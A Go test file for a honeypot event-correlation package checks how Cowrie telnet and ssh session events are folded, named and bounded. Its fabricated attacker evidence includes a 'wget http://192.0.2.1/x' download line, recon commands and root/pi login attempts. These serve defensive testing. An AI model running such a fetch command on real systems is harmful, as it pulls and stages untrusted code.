package state

import (
	"crypto/sha256"
	"fmt"
	"math/rand/v2"
	"reflect"
	"strings"
	"testing"

	"dossier/correlate/event"
	"dossier/correlate/law"
)

// shown is what of a state there is to see, by field, without what waits.
func shown(t *testing.T, s encoded) map[string]string {
	m := map[string]string{}
	each(s, func(_ int, name string, v reflect.Value) {
		if name != "Unnamed.Told" && name != "Unnamed.Events" {
			m[name] = dump(t, v)
		}
	})
	return m
}

// sessionEvents returns what sessions with a service each did, and what it is
// when each event came in a chunk of its own that doesn't tell the service.
func sessionEvents(r *rand.Rand, sessions, events int) (whole, cut []*event.Event) {
	service := func(id int) string { return []string{"telnet", "ssh"}[id%2] }
	for i := range events {
		id := r.IntN(sessions)
		ev := event.Event{
			Time: t0 + event.Time(r.Int64N(3000e6)), Proof: event.ByConnection, Decky: fmt.Sprint("decky-", r.IntN(3)), Service: service(id),
			Type: pick(r, "cowrie.command.input", "cowrie.login.failed", "a type that is longer than a hop’s note is"), Kind: event.Kind(r.IntN(3)), Phase: event.Recon,
		}
		switch i % 4 {
		case 0:
			ev.Evidence = []event.Evidence{{Kind: event.Command, A: pick(r, "id", "uname -a", "wget http://192.0.2.1/x", strings.Repeat("x", 441*r.IntN(9)/8)), N: int64(i % 2)}, {Kind: event.Command, A: "then"}}
		case 1:
			secret := fmt.Sprint(r.IntN(9))
			ev.Evidence = []event.Evidence{{Kind: event.Login, A: pick(r, "", "root", "pi"), B: "plaintext", C: secret, Digest: sha256.Sum256([]byte(secret)), Outcome: event.Outcome(r.IntN(3)), N: int64(r.IntN(3))}}
			if i == 1 { // how a long text is cut depends on the service
				ev.Evidence[0].A, ev.Evidence[0].C = strings.Repeat("u", event.MaxValue), strings.Repeat("s", event.MaxValue)
			}
		case 2:
			ev.Evidence = []event.Evidence{{Kind: event.Login, A: "root", Outcome: event.Success}, {Kind: event.Technique, A: "T1"}, {Kind: event.Session, A: fmt.Sprint(id)}}
		}
		part := ev
		part.Service, part.Naming, part.Session = event.GuessedService, event.Guessed, 1+uint64(id)*12345
		whole, cut = append(whole, &ev), append(cut, &part)
	}
	for id := range sessions {
		ev := event.Event{Time: t0 + event.Time(id), Proof: event.ByConnection, Decky: "decky-0", Service: service(id), Type: "cowrie.session.connect", Kind: event.Scan}
		part := ev
		part.Naming, part.Session = event.Names, 1+uint64(id)*12345
		whole, cut = append(whole, &ev), append(cut, &part)
	}
	return whole, cut
}

// Where one chunk has a session's service and others its events, the state shows
// what it would had all come in one, in whatever order they came.
func TestNamesByValue(t *testing.T) {
	for seed := range uint64(40) {
		r := rand.New(rand.NewPCG(seed, 5))
		whole, cut := sessionEvents(r, 1+r.IntN(9), r.IntN(36))
		a := new(event.Arena)
		oneA, oneH := new(Attacker), new(Activity)
		oneA.Fold(a, "one", false, whole)
		oneH.Fold(a, "one", whole)
		cutA, cutH := new(Attacker), new(Activity)
		r.Shuffle(len(cut), func(i, j int) { cut[i], cut[j] = cut[j], cut[i] })
		for _, ev := range cut {
			cutA.Fold(a, "one", false, []*event.Event{ev})
			cutH.Fold(a, "one", []*event.Event{ev})
			if r.IntN(5) == 0 {
				if err := cutA.Decode(cutA.Append(nil)); err != nil {
					t.Fatal(err)
				}
				if err := cutH.Decode(cutH.Append(nil)); err != nil {
					t.Fatal(err)
				}
			}
		}
		size := cutA.Size()
		if n := cutA.Name(a); n == 0 && len(whole) > 20 || cutA.Unnamed.Waits() {
			t.Fatalf("seed %d: %d events named, and some wait", seed, n)
		}
		cutH.Name(a)
		for name, want := range shown(t, oneA) {
			if got := shown(t, cutA)[name]; got != want {
				t.Errorf("seed %d: %s is\n%q, want\n%q", seed, name, got, want)
			}
		}
		for name, want := range shown(t, oneH) {
			if got := shown(t, cutH)[name]; got != want {
				t.Errorf("seed %d: the hour's %s is\n%q, want\n%q", seed, name, got, want)
			}
		}
		// The document's room is the same however the events were cut.
		if named := cutA.Size(); len(cutA.Unnamed.Told) > 0 && size-named > 0 {
			t.Errorf("seed %d: what waits for its service takes %d bytes of the document's room", seed, size-named)
		}
	}
}

// What is told of no session, or what there is no room for, is a guess and
// counted: nothing is lost and nothing twice.
func TestPastTheCapServicesAreGuessed(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 5))
	for _, tt := range []struct {
		name             string
		sessions, events int
		told             bool
	}{{"never told", 4, 20, false}, {"too many events", 3, 2000, true}, {"too many sessions", 900, 3000, true}} {
		_, cut := sessionEvents(r, tt.sessions, tt.events)
		if !tt.told {
			cut = cut[:tt.events]
		}
		a, s, h := new(event.Arena), new(Attacker), new(Activity)
		s.Fold(a, "one", false, cut)
		h.Fold(a, "one", cut)
		s.Name(a)
		h.Name(a)
		for _, c := range []struct {
			what     string
			services *law.Bottom
			guessed  int64
		}{{"the attacker's", &s.Services, s.Unnamed.Guessed}, {"the hour's", &h.Services, h.Unnamed.Guessed}} {
			var total, telnet int64
			for _, e := range c.services.Entries() {
				total += e.Count
				if e.Key == "telnet" {
					telnet = e.Count
				}
			}
			connects := int64(len(cut) - tt.events)
			if total != int64(len(cut)) {
				t.Errorf("%s: %s services have %d events, want %d", tt.name, c.what, total, len(cut))
			}
			switch {
			case !tt.told && (c.guessed != int64(tt.events) || telnet > 0):
				t.Errorf("%s: %s %d guesses, %d telnet", tt.name, c.what, c.guessed, telnet)
			case tt.told && (c.guessed < int64(tt.events)/2 || c.guessed >= int64(tt.events) || telnet <= connects/2):
				t.Errorf("%s: %s %d guesses of %d, %d telnet: nothing was named", tt.name, c.what, c.guessed, tt.events, telnet)
			}
		}
	}
	// Texts longer than any that a sensor may tell are a guess at once.
	long := &event.Event{Time: t0, Proof: event.ByConnection, Service: event.GuessedService, Naming: event.Guessed, Session: 7, Evidence: []event.Evidence{{Kind: event.Login, A: strings.Repeat("x", maxUnnamedText), B: "plaintext"}}}
	s := new(Attacker)
	s.Fold(new(event.Arena), "one", false, []*event.Event{long})
	if s.Unnamed.Waits() || s.Unnamed.Guessed != 1 || s.Credentials.Len() != 1 {
		t.Errorf("a long name waits: %d guesses, %d credentials", s.Unnamed.Guessed, s.Credentials.Len())
	}
}

// Of two services that are told of one session one counts, whichever came first;
// a service that no session can have isn't kept.
func TestToldTwice(t *testing.T) {
	for _, order := range [][]string{{"ssh", "telnet"}, {"telnet", "ssh"}, {"http", "telnet", ""}} {
		var u Unnamed
		for _, service := range order {
			u.Told.tell(7, service)
		}
		if got := u.Told.serviceOf(7); got != "telnet" || len(u.Told) != 1 {
			t.Errorf("%v: %q, %d sessions", order, got, len(u.Told))
		}
		if u.Told.serviceOf(8) != "" {
			t.Error("a session that nobody told of")
		}
	}
}

// An item that is none gives nothing, and never a panic.
func TestPlacedOfGarbage(t *testing.T) {
	r := rand.New(rand.NewPCG(2, 5))
	for range 20_000 {
		text := func() string {
			b := make([]byte, r.IntN(12))
			for i := range b {
				b[i] = byte(r.IntN(256))
			}
			return string(b)
		}
		p := placedOf(&law.Item{A: text(), B: text(), C: text()})
		if p.kind > event.Interaction || p.outcome > event.Success {
			t.Fatalf("%+v", p)
		}
	}
	full := placed{at: -5, touch: true, kind: event.Interaction, decky: "d", what: strings.Repeat("w", 32), login: true, outcome: event.Success, text: "a\x00b\x00c", secret: strings.Repeat("s", event.MaxValue)}
	it := full.item(new(event.Arena), 9)
	if got := placedOf(&it); got != full || it.Time != 9 {
		t.Errorf("%+v came back as %+v", full, got)
	}
}

// What is kept for later has a session, a proof and a bound: what a session of no name
// tells is nobody's, a claim is counted at once, and whoever sends a long secret fills
// no list.
func TestWhatWaitsForItsService(t *testing.T) {
	a := new(event.Arena)
	s := new(Attacker)
	s.Fold(a, "one", false, []*event.Event{{Time: t0, Proof: event.ByConnection, Service: "ssh", Naming: event.Names}})
	if n := len(s.Unnamed.Told); n != 0 {
		t.Errorf("%d sessions, of an event that names none", n)
	}
	h := new(Activity)
	h.Fold(a, "one", []*event.Event{{Time: t0, Service: event.GuessedService, Naming: event.Guessed, Session: 7}})
	if h.Unnamed.Waits() || h.Services.Get(event.GuessedService) == nil {
		t.Errorf("a claim waits for its service, services %v", h.Services.Keys())
	}
	for _, n := range []int{maxUnnamedText, maxUnnamedText + 1} {
		s.Reset()
		s.Unnamed.keep(a, 7, &placed{at: t0, touch: true, secret: strings.Repeat("s", n)}, s)
		if waits := s.Unnamed.Waits(); waits != (n == maxUnnamedText) || waits == (s.Unnamed.Guessed == 1) {
			t.Errorf("a secret of %d bytes: waits %v, %d guessed", n, waits, s.Unnamed.Guessed)
		}
	}
}
